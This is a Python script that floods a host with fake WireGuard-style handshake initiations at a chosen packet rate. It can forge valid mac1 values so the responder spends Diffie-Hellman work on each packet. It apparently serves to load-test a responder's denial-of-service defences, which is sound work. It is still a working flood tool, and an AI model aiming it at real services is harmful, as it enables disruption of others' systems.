#!/usr/bin/env python3
"""Sends garbage handshake initiations at a fixed rate until killed.

    flood.py HOST PORT TYPE LENGTH PPS [RESPONDER_PUBLIC_KEY]

Each datagram is a valid-looking initiation: the message type (1 for
WireGuard/classic, 5 hybrid, 7 pq-only) with three reserved zero bytes,
the right length, and random bytes everywhere else, so mac1 is wrong and a
correct responder drops it after one keyed BLAKE2s, before any asymmetric
work. A fresh sender index and ephemeral key per datagram (random bytes),
as a real flood would have.

With RESPONDER_PUBLIC_KEY (base64 X25519), mac1 is valid
(BLAKE2s-128 keyed with BLAKE2s-256("mac1----" || key), over the message up
to mac1; mac2 zero): the responder must do its Diffie-Hellman before it can
tell the initiation is garbage, until it considers itself under load and
answers with cookie replies instead. Standard library only.
"""
import base64
import hashlib
import os
import socket
import sys
import time


def main():
    if len(sys.argv) not in (6, 7):
        sys.exit(__doc__)
    host, port, mtype, length, pps = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), int(sys.argv[5])
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    header = bytes([mtype, 0, 0, 0])
    # A pool of distinct random messages, so no per-datagram randomness cost.
    pool = [header + os.urandom(length - 4) for _ in range(1024)]
    if len(sys.argv) == 7:
        key = hashlib.blake2s(b"mac1----" + base64.b64decode(sys.argv[6])).digest()
        signed = []
        for m in pool:
            body = m[: length - 32]
            mac1 = hashlib.blake2s(body, key=key, digest_size=16).digest()
            signed.append(body + mac1 + bytes(16))
        pool = signed
    batch = max(1, pps // 100)  # paced in 10 ms slices
    sent = 0
    start = time.monotonic()
    while True:
        for i in range(batch):
            try:
                s.sendto(pool[(sent + i) & 1023], (host, port))
            except OSError:
                pass
        sent += batch
        ahead = sent / pps - (time.monotonic() - start)
        if ahead > 0:
            time.sleep(ahead)


if __name__ == "__main__":
    main()
